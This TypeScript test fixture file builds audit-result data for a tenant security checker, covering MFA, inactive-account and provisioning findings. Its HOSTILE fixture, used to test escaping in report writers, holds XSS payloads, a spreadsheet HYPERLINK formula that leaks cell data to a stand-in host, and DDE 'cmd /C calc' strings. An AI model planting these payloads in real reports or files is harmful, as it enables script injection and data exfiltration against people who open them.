/**
 * A small builder for RunResults fixtures: add checks, rules, findings and stats; `build()` derives the summary
 * and rule counts from what was added, so every fixture is self-consistent and valid against
 * schemas/results.schema.json. Ready-made fixtures: normal, empty, hostile, large.
 */
import type { CheckResult, Control, Finding, RuleResult, RunResults, Severity, Stats, Warning } from '../../src/model/results.ts';
import { RESULTS_SCHEMA_VERSION } from '../../src/model/results.ts';
import { sameControls } from '../../reporters/rule-index.ts';

const FETCHED = '2025-03-01T02:00:05.000Z';

export const CONTROLS: Readonly<Record<string, Control[]>> = {
  'mfa-disabled': [
    { framework: 'CIS Controls v8', id: '6.3', title: 'Require MFA for Externally-Exposed Applications', relation: 'direct' },
    { framework: 'NIST SP 800-53 r5', id: 'IA-2(2)', title: 'MFA to non-privileged accounts', relation: 'direct' },
    { framework: 'PCI DSS v4.0.1', id: '8.4.2', relation: 'direct' },
    { framework: 'SOC 2', id: 'CC6.1', relation: 'supporting' },
  ],
  'inactive-account': [
    { framework: 'CIS Controls v8', id: '5.3', title: 'Disable Dormant Accounts', relation: 'direct' },
    { framework: 'NIST SP 800-53 r5', id: 'AC-2(3)', title: 'Disable Accounts', relation: 'direct' },
    { framework: 'PCI DSS v4.0.1', id: '8.2.6', title: 'Inactive accounts', relation: 'direct' },
    { framework: 'ISO/IEC 27001:2022', id: '5.18', title: 'Access rights', relation: 'supporting' },
  ],
  'deactivated-with-roles': [
    { framework: 'CIS Controls v8', id: '6.2', relation: 'direct' },
    { framework: 'SOC 2', id: 'CC6.2', relation: 'direct' },
  ],
  'stale-provision': [
    { framework: 'ISO/IEC 27001:2022', id: '5.16', title: 'Identity management', relation: 'supporting' },
    { framework: 'SOC 2', id: 'CC6.2', relation: 'supporting' },
  ],
  'privileged-without-mfa': [
    { framework: 'CIS Controls v8', id: '6.5', relation: 'direct' },
    { framework: 'NIST SP 800-53 r5', id: 'IA-2(1)', relation: 'direct' },
    { framework: 'PCI DSS v4.0.1', id: '8.4.1', relation: 'direct' },
  ],
  'external-domain': [{ framework: 'SOC 2', id: 'CC6.3', relation: 'supporting' }],
};

export const RULE_DEFS: ReadonlyArray<Pick<RuleResult, 'id' | 'title' | 'severity' | 'rationale' | 'remediation'>> = [
  { id: 'privileged-without-mfa', title: 'Administrator without MFA', severity: 'critical', rationale: 'A stolen password is enough to take over an admin account.', remediation: 'Require MFA for every account-tier admin and billing admin.' },
  { id: 'mfa-disabled', title: 'MFA disabled', severity: 'high', rationale: 'Accounts without MFA fall to password reuse and phishing.', remediation: 'Enable MFA or enforce it through SSO.' },
  { id: 'deactivated-with-roles', title: 'Deactivated user still holds roles', severity: 'high', rationale: 'Roles on a deactivated account come back if it is reactivated.', remediation: 'Remove the roles before deactivating.' },
  { id: 'inactive-account', title: 'Inactive account', severity: 'medium', rationale: 'Dormant accounts are unmonitored entry points.', remediation: 'Disable accounts unused for longer than the threshold.' },
  { id: 'stale-provision', title: 'Stale pending provision', severity: 'low', rationale: 'Old invitations can be accepted by whoever holds the email.', remediation: 'Delete invitations older than the threshold.' },
  { id: 'external-domain', title: 'Email outside allowed domains', severity: 'info', rationale: 'External identities need an owner.', remediation: 'Confirm or remove external users.' },
];

export class ResultsBuilder {
  readonly #results: RunResults;
  readonly #rules = new Map<string, Omit<RuleResult, 'counts' | 'outcome'> & { outcome?: RuleResult['outcome']; evaluated: number }>();

  constructor(runId = 'run-2025-03-01') {
    this.#results = {
      schemaVersion: RESULTS_SCHEMA_VERSION,
      tool: { name: 'snyk-tenant-check', version: '0.1.0' },
      run: { id: runId, startedAt: '2025-03-01T02:00:00.000Z', finishedAt: '2025-03-01T02:01:12.500Z', durationMs: 72_500, tenant: 'mock', suites: ['contract', 'audit'], seed: 424242, numRuns: 50, apiVersion: '2024-10-15', partial: false },
      summary: { checks: { total: 0, passed: 0, failed: 0, skipped: 0, error: 0 }, findings: { total: 0, fail: 0, exempt: 0, unknown: 0, bySeverity: {} } },
      checks: [],
      findings: [],
      rules: [],
      warnings: [],
    };
  }

  run(patch: Partial<RunResults['run']>): this {
    Object.assign(this.#results.run, patch);
    return this;
  }

  partial(reason: string): this {
    return this.run({ partial: true, partialReason: reason });
  }

  check(check: Partial<CheckResult> & Pick<CheckResult, 'id' | 'outcome'>): this {
    this.#results.checks.push({ title: check.id.replace(/_/g, ' '), operation: 'GET /rest/self', family: 'conformance', durationMs: 12, ...check });
    return this;
  }

  /** Adds a rule (with its catalogue controls); `evaluated` = subjects the rule looked at. */
  rule(id: string, evaluated: number, patch: Partial<RuleResult> = {}): this {
    const def = RULE_DEFS.find((r) => r.id === id) ?? { id, title: id, severity: 'medium' as Severity };
    this.#rules.set(id, { ...def, controls: CONTROLS[id] ?? [], evaluated, ...patch });
    return this;
  }

  finding(finding: Partial<Finding> & Pick<Finding, 'ruleId' | 'subject'>): this {
    const rule = this.#rules.get(finding.ruleId);
    this.#results.findings.push({
      outcome: 'fail',
      severity: rule?.severity ?? 'medium',
      evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: {} },
      ...finding,
    });
    return this;
  }

  stats(stats: Stats): this {
    this.#results.stats = stats;
    return this;
  }

  warning(w: Warning): this {
    this.#results.warnings.push(w);
    return this;
  }

  diff(previousRunId: string, resolvedFindings: Finding[] = []): this {
    const f = this.#results.findings;
    this.#results.diff = {
      previousRunId,
      new: f.filter((x) => x.status === 'new').length,
      persisting: f.filter((x) => x.status === 'persisting').length,
      resolved: resolvedFindings.length,
      exemptionExpired: f.filter((x) => x.status === 'exemption-expired').length,
      resolvedFindings,
    };
    this.#results.run.previous = 'reports/previous/results.json';
    return this;
  }

  build(): RunResults {
    const r = structuredClone(this.#results);
    const c = r.summary.checks;
    for (const ch of r.checks) {
      c.total++;
      c[ch.outcome === 'passed' ? 'passed' : ch.outcome === 'failed' ? 'failed' : ch.outcome === 'skipped' ? 'skipped' : 'error']++;
    }
    const fs = r.summary.findings;
    const bySeverity: Partial<Record<Severity, number>> = {};
    for (const f of r.findings) {
      fs.total++;
      fs[f.outcome]++;
      if (f.outcome === 'fail') bySeverity[f.severity] = (bySeverity[f.severity] ?? 0) + 1;
    }
    fs.bySeverity = bySeverity;
    if (r.diff) {
      fs.new = r.diff.new;
      fs.persisting = r.diff.persisting;
      fs.resolved = r.diff.resolved;
    }
    r.rules = [...this.#rules.values()].map(({ evaluated, outcome, ...rule }) => {
      const mine = r.findings.filter((f) => f.ruleId === rule.id);
      const counts = { evaluated, fail: 0, exempt: 0, unknown: 0 };
      for (const f of mine) counts[f.outcome]++;
      return { ...rule, counts, outcome: outcome ?? (counts.fail > 0 ? 'fail' : counts.unknown > 0 ? 'unknown' : 'pass') };
    });
    return r;
  }
}

/** A realistic small run: contract failures with exchange and curl, findings of every outcome, a diff. */
export function normalResults(): RunResults {
  const b = new ResultsBuilder()
    .check({ id: 'response_schema_conformance', title: 'Response conforms to the documented schema', operation: 'GET /rest/self', outcome: 'passed', seed: 424242 })
    .check({ id: 'status_code_conformance', title: 'Status code is documented', operation: 'GET /v1/org/{orgId}/provision', outcome: 'passed' })
    .check({
      id: 'response_schema_conformance',
      title: 'Response conforms to the documented schema',
      operation: 'GET /users/',
      outcome: 'failed',
      seed: 424242,
      path: '3:1:0',
      message: 'Response violates schema\n/results/0/last_login: must match format "date-time"\nReceived: "2023-08-09T13:27:43.8208302"',
      counterexample: { page: 2, page_size: 1 },
      exchange: {
        operation: 'GET /users/',
        method: 'GET',
        url: 'http://127.0.0.1:40123/users/?page=2&page_size=1',
        status: 200,
        durationMs: 8.2,
        requestHeaders: { accept: 'application/json', authorization: '[REDACTED]' },
        responseHeaders: { 'content-type': 'application/json' },
        responseBody: '{"count":1,"results":[{"id":"2kZ5Fi4zk8zm","last_login":"2023-08-09T13:27:43.8208302"}]}',
      },
      reproduction: "curl -sS -H \"Authorization: JWT $SNYK_APIWEB_TOKEN\" 'http://127.0.0.1:40123/users/?page=2&page_size=1'",
    })
    .check({ id: 'negative_data_rejection', title: 'Invalid input is rejected', family: 'negative', operation: 'POST /v1/org/{orgId}/provision', outcome: 'error', message: 'socket hang up' })
    .check({ id: 'auth_required', title: 'Missing token is refused', family: 'auth', operation: 'GET /rest/orgs/{org_id}/memberships', outcome: 'passed' })
    .check({ id: 'remove_test_user', title: 'Remove SNYK_TEST_USER_ID from the group', family: 'stateful', operation: 'PATCH /rest/groups/{group_id}/users/{id}', outcome: 'skipped', message: 'SNYK_TEST_USER_ID is not set' });
  for (const r of RULE_DEFS) b.rule(r.id, r.id === 'stale-provision' ? 6 : 40);
  b.rule('deactivated-with-roles', 40, { outcome: 'pass' });
  const user = (i: number, extra: Partial<Finding> = {}): Partial<Finding> & Pick<Finding, 'subject'> => ({
    subject: { kind: 'apiweb-user', id: `u${1000 + i}`, email: `user${i}@example.com`, name: `User ${i}` },
    ...extra,
  });
  b.finding({ ruleId: 'privileged-without-mfa', ...user(1), message: 'Owner role without MFA', status: 'new', evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { mfa_enabled: false, user_roles: [{ role: { id: 'r1', name: 'Owner' }, scope: { tier: 'account' } }] } } });
  for (let i = 2; i <= 6; i++) b.finding({ ruleId: 'mfa-disabled', ...user(i), message: 'MFA is disabled', status: i % 2 ? 'new' : 'persisting', firstSeen: '2025-02-01T02:00:00.000Z', evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { mfa_enabled: false, is_apiuser: false, active: true } } });
  b.finding({ ruleId: 'mfa-disabled', ...user(7), outcome: 'exempt', status: 'persisting', message: 'MFA is disabled', exemption: { reason: 'Break-glass account kept in the safe', owner: 'secops@example.com', ticket: 'SEC-123', expires: '2025-12-31', kind: 'break-glass' }, evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { mfa_enabled: false } } });
  b.finding({ ruleId: 'mfa-disabled', ...user(8), outcome: 'unknown', message: 'mfa_enabled missing from the response', evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { mfa_enabled: null }, note: 'field absent' } });
  for (let i = 9; i <= 14; i++) b.finding({ ruleId: 'inactive-account', ...user(i), message: `Last login ${100 + i} days ago (threshold 90)`, status: 'persisting', evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { last_login: `2024-11-${10 + i}T08:00:00Z`, active: true } } });
  b.finding({ ruleId: 'inactive-account', ...user(15), message: 'Never logged in', status: 'exemption-expired', evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { last_login: null } } });
  b.finding({ ruleId: 'stale-provision', subject: { kind: 'pending-provision', email: 'invitee@partner.example', orgId: 'org-1' }, message: 'Pending for 45 days', status: 'new', evidence: { source: 'GET /v1/org/{orgId}/provision', fetchedAt: FETCHED, fields: { created: '2025-01-15T00:00:00Z', role: 'ADMIN' } } });
  b.finding({ ruleId: 'external-domain', subject: { kind: 'snyk-member', id: 'c0ffee00-0000-4000-8000-000000000001', email: 'contractor@gmail.com', orgId: 'org-1' }, severity: 'info', message: 'gmail.com is not an allowed domain', status: 'new', evidence: { source: 'GET /rest/orgs/{org_id}/memberships', fetchedAt: FETCHED, fields: { email: 'contractor@gmail.com' } } });
  b.stats({
    inventory: { 'GET /users/': 40, 'GET /rest/orgs/{org_id}/memberships': 12, 'GET /v1/org/{orgId}/provision': 6 },
    mfa: { enabled: 31, disabled: 7, unknown: 2 },
    lastLoginHistogram: [
      { label: '< 7 d', count: 14 },
      { label: '7–30 d', count: 9 },
      { label: '30–90 d', count: 6 },
      { label: '90–180 d', count: 5 },
      { label: '> 180 d', count: 4 },
      { label: 'never', count: 2 },
    ],
    provisionAges: [
      { label: '< 7 d', count: 2 },
      { label: '7–30 d', count: 3 },
      { label: '> 30 d', count: 1 },
    ],
    requests: { rest: 31, v1: 4, apiweb: 9, retries: 1, '429s': 1 },
  });
  b.warning({ code: 'STALE_EXEMPTION', message: 'Exemption for former@example.com matches no subject', ruleId: 'mfa-disabled' });
  b.warning({ code: 'AUDIT_LOG_RETENTION', message: 'Audit logs cover only the last 90 days' });
  b.diff('run-2025-02-28', [{ ruleId: 'mfa-disabled', outcome: 'fail', severity: 'high', status: 'resolved', subject: { kind: 'apiweb-user', id: 'u999', email: 'fixed@example.com' }, message: 'MFA is disabled', evidence: { source: 'GET /users/', fetchedAt: '2025-02-28T02:00:05.000Z', fields: { mfa_enabled: false } } }]);
  return b.build();
}

/** Own controls and title for the findings of inheritanceResults that differ from their rule. */
export const OWN_CONTROLS: Control[] = [{ framework: 'Internal policy', id: 'SEC-7', title: 'Contractor access', relation: 'supporting' }];
export const OWN_TITLE = 'MFA off for a contractor account';

/**
 * Findings that inherit `controls` and `title` from their rule (the audit engine's shape) beside findings that
 * carry their own: u1 inherits both and has no message; u2 has its own controls and title; u3 carries copies
 * equal to its rule's; u4's rule is missing from rules[] and carries its own.
 */
export function inheritanceResults(): RunResults {
  const b = new ResultsBuilder('run-inherit').rule('mfa-disabled', 10).rule('inactive-account', 10);
  const subject = (i: number): Finding['subject'] => ({ kind: 'apiweb-user', id: `u${i}`, email: `u${i}@example.com` });
  const evidence: Finding['evidence'] = { source: 'GET /users/', fetchedAt: FETCHED, fields: { mfa_enabled: false } };
  b.finding({ ruleId: 'mfa-disabled', subject: subject(1), evidence });
  b.finding({ ruleId: 'mfa-disabled', subject: subject(2), evidence, message: 'MFA is disabled', title: OWN_TITLE, controls: OWN_CONTROLS });
  b.finding({ ruleId: 'inactive-account', subject: subject(3), evidence, message: 'Last login 200 days ago', title: 'Inactive account', controls: structuredClone(CONTROLS['inactive-account']) });
  b.finding({ ruleId: 'orphan-rule', subject: subject(4), evidence, severity: 'low', message: 'Orphan finding', title: 'Rule outside the catalogue', controls: OWN_CONTROLS });
  return b.build();
}

export function emptyResults(): RunResults {
  return new ResultsBuilder('run-empty').run({ suites: [] }).build();
}

/** Markup, script breakers, XML-invalid characters and spreadsheet formulas in every tenant string. */
export const HOSTILE = {
  img: '<img src=x onerror="window.__pwned=1;alert(1)">',
  script: '</script><script>window.__pwned=2;alert(1)</script>',
  xmlInvalid: 'ctl\u0000\u0001\u0002\u0003\u0004\u0005\u0006\u0007\u0008\u000B\u000C\uFFFE\uFFFF\uD800end',
  formula: '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
  plus: '+1+cmd|\' /C calc\'!A0',
  minus: '-2+3',
  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
  separators: 'line\u2028sep\u2029para & "quotes" \'apos\' ]]> <!-- -->',
} as const;

export function hostileResults(): RunResults {
  const b = new ResultsBuilder(`run ${HOSTILE.img}`)
    .run({ policy: HOSTILE.script, apiVersion: HOSTILE.xmlInvalid })
    .check({ id: 'response_schema_conformance', title: HOSTILE.img, operation: 'GET /users/', outcome: 'failed', family: HOSTILE.script, message: `${HOSTILE.script} ${HOSTILE.xmlInvalid}`, counterexample: { name: HOSTILE.img, s: HOSTILE.separators }, exchange: { method: 'GET', url: `http://127.0.0.1/users/?q=${HOSTILE.script}`, status: 200, responseBody: `{"name":"${HOSTILE.img}"}`, responseHeaders: { 'x-evil': HOSTILE.img } }, reproduction: `curl '${HOSTILE.script}'` })
    .check({ id: HOSTILE.formula, outcome: 'error', message: HOSTILE.at })
    .rule('mfa-disabled', 5)
    .rule(HOSTILE.img, 3, { title: HOSTILE.script, controls: [{ framework: HOSTILE.img, id: HOSTILE.script, title: HOSTILE.formula, relation: 'direct' }], limits: [HOSTILE.xmlInvalid] });
  b.finding({ ruleId: 'mfa-disabled', subject: { kind: 'apiweb-user', id: 'h1', name: HOSTILE.img, email: HOSTILE.formula }, message: HOSTILE.script, evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { labels: [{ name: HOSTILE.script }, { name: HOSTILE.plus }], name: HOSTILE.img } } });
  b.finding({ ruleId: 'mfa-disabled', subject: { kind: 'apiweb-user', id: HOSTILE.xmlInvalid, name: HOSTILE.plus, email: HOSTILE.minus }, message: HOSTILE.xmlInvalid, outcome: 'unknown', evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { x: HOSTILE.separators }, note: HOSTILE.img } });
  b.finding({ ruleId: 'mfa-disabled', subject: { kind: HOSTILE.at, id: 'h3', name: HOSTILE.separators, email: HOSTILE.at }, message: HOSTILE.formula, outcome: 'exempt', exemption: { reason: HOSTILE.img, owner: HOSTILE.formula, ticket: HOSTILE.script, expires: HOSTILE.xmlInvalid }, evidence: { source: 'GET /users/', fetchedAt: FETCHED, fields: { [HOSTILE.img]: HOSTILE.script } } });
  b.finding({ ruleId: HOSTILE.img, subject: { kind: 'apiweb-user', id: 'h4', email: `\t${HOSTILE.img}`, name: `\r${HOSTILE.plus}` }, title: HOSTILE.img, message: HOSTILE.minus, evidence: { source: HOSTILE.script, fetchedAt: FETCHED, fields: {} } });
  b.stats({ mfa: { enabled: 1, disabled: 2, unknown: 1 }, lastLoginHistogram: [{ label: HOSTILE.img, count: 3 }, { label: HOSTILE.script, count: 1 }], provisionAges: [{ label: HOSTILE.formula, count: 1 }], inventory: { [HOSTILE.img]: 4 } });
  b.warning({ code: HOSTILE.img, message: HOSTILE.script });
  return b.partial(HOSTILE.img).build();
}

/** mulberry32: a tiny seeded PRNG, so the large fixture is the same for a given seed. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const FIRST = ['ana', 'ben', 'carla', 'dmitri', 'eve', 'farah', 'goran', 'hana', 'ivan', 'julia', 'kenji', 'lena', 'marco', 'nina', 'omar', 'priya', 'quinn', 'rosa', 'sven', 'tara'];
const LAST = ['silva', 'meyer', 'novak', 'kowalski', 'haddad', 'tanaka', 'okafor', 'larsen', 'rossi', 'dubois', 'ivanova', 'fischer', 'garcia', 'nguyen', 'kim', 'schmidt'];
const ID_CHARS = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

/**
 * A 100k-user tenant's audit: `findings` failing/exempt/unknown findings spread over the rules, each with the
 * per-finding controls copied from its rule (as a producer might emit them), fingerprints, diff statuses,
 * unique messages and evidence values. Deterministic for a seed.
 */
export function largeResults(options: { seed: number; users?: number; findings?: number }): RunResults {
  const rand = prng(options.seed);
  const users = options.users ?? 100_000;
  const total = options.findings ?? 50_000;
  const pick = <T>(list: readonly T[]): T => list[Math.floor(rand() * list.length)] as T;
  const id = (n: number): string => {
    let out = '';
    for (let k = 0; k < n; k++) out += ID_CHARS[Math.floor(rand() * ID_CHARS.length)];
    return out;
  };
  const b = new ResultsBuilder('run-large');
  for (let i = 0; i < 40; i++) b.check({ id: `check_${i}`, operation: 'GET /users/', outcome: i % 13 === 0 ? 'failed' : 'passed', family: i % 2 ? 'conformance' : 'pagination', message: i % 13 === 0 ? 'schema violation' : undefined });
  const share: Array<[string, number]> = [['inactive-account', 0.58], ['mfa-disabled', 0.24], ['stale-provision', 0.08], ['external-domain', 0.07], ['privileged-without-mfa', 0.02], ['deactivated-with-roles', 0.01]];
  for (const [rule] of share) b.rule(rule, users);
  for (const [rule, part] of share) {
    const n = Math.round(total * part);
    for (let k = 0; k < n; k++) {
      const first = pick(FIRST);
      const last = pick(LAST);
      const num = Math.floor(rand() * 100_000);
      const days = 90 + Math.floor(rand() * 900);
      const r = rand();
      const outcome = r < 0.9 ? 'fail' : r < 0.96 ? 'exempt' : 'unknown';
      const lastLogin = new Date(Date.UTC(2025, 2, 1) - days * 86_400_000).toISOString();
      b.finding({
        ruleId: rule,
        outcome,
        status: rand() < 0.15 ? 'new' : 'persisting',
        subject: rule === 'stale-provision'
          ? { kind: 'pending-provision', email: `${first}.${last}${num}@partner-${num % 50}.example`, orgId: `org-${num % 20}` }
          : { kind: rule === 'external-domain' ? 'snyk-member' : 'apiweb-user', id: id(12), email: `${first}.${last}${num}@corp.example.com`, name: `${first[0]?.toUpperCase()}${first.slice(1)} ${last[0]?.toUpperCase()}${last.slice(1)}` },
        message: rule === 'inactive-account' ? `Last login ${lastLogin.slice(0, 10)} is ${days} days ago (threshold 90 days)` : rule === 'mfa-disabled' ? 'MFA is disabled' : `Finding for ${rule}`,
        evidence: { source: rule === 'stale-provision' ? 'GET /v1/org/{orgId}/provision' : 'GET /users/', fetchedAt: FETCHED, fields: rule === 'inactive-account' ? { last_login: lastLogin, active: true, is_apiuser: false } : { mfa_enabled: rule !== 'mfa-disabled', is_apiuser: false, active: true } },
        controls: CONTROLS[rule],
        firstSeen: `2025-0${1 + Math.floor(rand() * 2)}-${String(1 + Math.floor(rand() * 28)).padStart(2, '0')}T02:00:00.000Z`,
        fingerprint: id(20),
        ...(outcome === 'exempt' ? { exemption: { reason: 'Service account owned by platform team', owner: 'platform@corp.example.com', ticket: `SEC-${num % 300}`, expires: '2025-12-31' } } : {}),
      });
    }
  }
  const enabled = Math.round(users * 0.81);
  b.stats({
    inventory: { 'GET /users/': users, 'GET /rest/groups/{group_id}/memberships': Math.round(users * 0.4), 'GET /v1/org/{orgId}/provision': 4_000 },
    mfa: { enabled, disabled: users - enabled - 600, unknown: 600 },
    lastLoginHistogram: [{ label: '< 7 d', count: 31_000 }, { label: '7–30 d', count: 22_000 }, { label: '30–90 d', count: 18_000 }, { label: '90–180 d', count: 12_000 }, { label: '180–365 d', count: 9_000 }, { label: '> 365 d', count: 6_000 }, { label: 'never', count: 2_000 }],
    provisionAges: [{ label: '< 7 d', count: 900 }, { label: '7–30 d', count: 1_100 }, { label: '30–90 d', count: 1_200 }, { label: '> 90 d', count: 800 }],
  });
  return b.diff('run-previous').build();
}

/**
 * The audit engine's shape: a copy of the results whose findings (current and resolved) leave out `controls`
 * and `title` where they equal their rule's. Findings with controls or a title of their own keep them.
 */
export function withoutRuleCopies(results: RunResults): RunResults {
  const copy = structuredClone(results);
  const rules = new Map(copy.rules.map((r) => [r.id, r] as const));
  for (const f of [...copy.findings, ...(copy.diff?.resolvedFindings ?? [])]) {
    const rule = rules.get(f.ruleId);
    if (!rule) continue;
    if (f.controls !== undefined && sameControls(f.controls, rule.controls ?? [])) delete f.controls;
    if (f.title !== undefined && f.title === rule.title) delete f.title;
  }
  // One JSON round trip, as results reach the writers: no objects left in dictionary mode by `delete`.
  return JSON.parse(JSON.stringify(copy)) as RunResults;
}

/** The older producer shape: every finding with a rule carries its own copy of the rule's controls and title. */
export function withRuleCopies(results: RunResults): RunResults {
  const copy = structuredClone(results);
  const rules = new Map(copy.rules.map((r) => [r.id, r] as const));
  for (const f of [...copy.findings, ...(copy.diff?.resolvedFindings ?? [])]) {
    const rule = rules.get(f.ruleId);
    if (!rule) continue;
    f.controls ??= structuredClone(rule.controls ?? []);
    f.title ??= rule.title;
  }
  return copy;
}
